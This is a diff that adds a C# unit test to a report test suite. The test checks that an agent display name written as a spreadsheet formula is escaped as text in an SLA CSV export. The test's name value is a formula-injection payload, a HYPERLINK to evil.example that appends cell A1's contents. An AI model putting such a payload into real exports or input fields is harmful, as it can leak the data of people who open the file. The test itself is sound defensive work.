@@ -236,6 +236,26 @@ public abstract class SlaReportTests(RapportFactory app) : DatabaseTests(app)
         lines[^1].ShouldBe("all,,All agents,5,2.00,7.00,2,3.00,3.80,1,11.00,11.00,4,6,66.67,2,3,66.67,1,3,33.33,5,6,83.33,1,2,50.00");
     }
 
+    /// <summary>Agents choose their own names: one that looks like a formula reaches the spreadsheet as text.</summary>
+    [Fact]
+    public async Task SlaCsv_AgentNamedLikeAFormula_IsWrittenAsText()
+    {
+        const string name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+        await using (var db = App.CreateDbContext())
+        {
+            await db.Users.Where(a => a.Id == _bob.Id).ExecuteUpdateAsync(set => set.SetProperty(a => a.DisplayName, name), Ct);
+        }
+        var ticket = await OpenAsync(null);
+        ClockTo(0, 10);
+        await ReplyAsync(_asBob, ticket);
+        var client = await App.CreateTokenClientAsync(ApiTokenScope.Read, ct: Ct);
+
+        var csv = await client.GetStringAsync($"/api/v1/reports/sla.csv?from={Week1:yyyy-MM-dd}&to={Week1.AddDays(6):yyyy-MM-dd}&agent={_bob.Id}", Ct);
+
+        var guarded = $"{Week1:yyyy-MM-dd},{_bob.Id},\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",1,1.00,1.00,";
+        csv.Split("\r\n").ShouldContain(line => line.StartsWith(guarded, StringComparison.Ordinal), csv);
+    }
+
     [Fact]
     public async Task Sla_NoDates_LastEightWeeksInTheBusinessZone()
     {
